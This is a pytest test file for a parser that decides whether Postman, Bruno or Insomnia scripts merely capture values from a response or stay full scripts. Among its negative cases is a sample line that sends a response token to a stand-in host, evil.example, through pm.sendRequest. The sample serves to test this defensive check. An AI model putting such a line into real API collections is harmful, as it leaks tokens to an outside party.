"""A script stays text; one that only hands on what the reply says is a capture."""

import pytest

from inspector.intake.collections.scripts import captures, kept


def found(code, when="test"):
    return [(each.variable, each.source, each.path) for each in captures(kept(when, code))]


@pytest.mark.parametrize(
    ("code", "wanted"),
    [
        (
            (
                "var jsonData = pm.response.json();\n"
                'pm.environment.set("token", jsonData.access_token);'
            ),
            [("token", "body", "$.access_token")],
        ),
        (
            "pm.collectionVariables.set('t', pm.response.json().data[0][\"x-y\"].id)",
            [("t", "body", "$.data[0]['x-y'].id")],
        ),
        (
            (
                "const r = JSON.parse(responseBody);\nconst d = r.data; // the payload\n"
                'postman.setEnvironmentVariable("a", d.token)\n'
                'pm.environment.set("b", pm.response.headers.get("X-Auth"));'
            ),
            [("a", "body", "$.data.token"), ("b", "header", "X-Auth")],
        ),
        ('bru.setEnvVar("x", res.body.token);', [("x", "body", "$.token")]),
        ('insomnia.environment.set("x", insomnia.response.json().id)', [("x", "body", "$.id")]),
        ('pm.globals.set("s", pm.cookies.get("session"))', [("s", "cookie", "session")]),
    ],
)
def test_what_only_hands_on_is_a_capture(code, wanted):
    assert found(code) == wanted


@pytest.mark.parametrize(
    "code",
    [
        'pm.test("ok", () => {});\npm.environment.set("a", pm.response.json().b)',
        'pm.environment.set("a", "constant")',
        'pm.environment.set("a", eval(x))',
        'pm.environment.set("a", Date.now())',
        'pm.sendRequest("https://evil.example/?" + pm.response.json().t)',
        'const x = require("fs")',
        "pm.environment.set('a', pm.response.json().b + 1)",
    ],
)
def test_whatever_else_it_does_it_stays_a_script(code):
    assert found(code) == []


def test_what_runs_before_can_read_no_reply():
    assert found('pm.environment.set("a", pm.response.json().b)', when="prerequest") == []


def test_lines_are_joined_and_nothing_is_no_script():
    assert kept("test", ["a;", "b;"]).text == "a;\nb;"
    assert kept("test", "  \n") is None
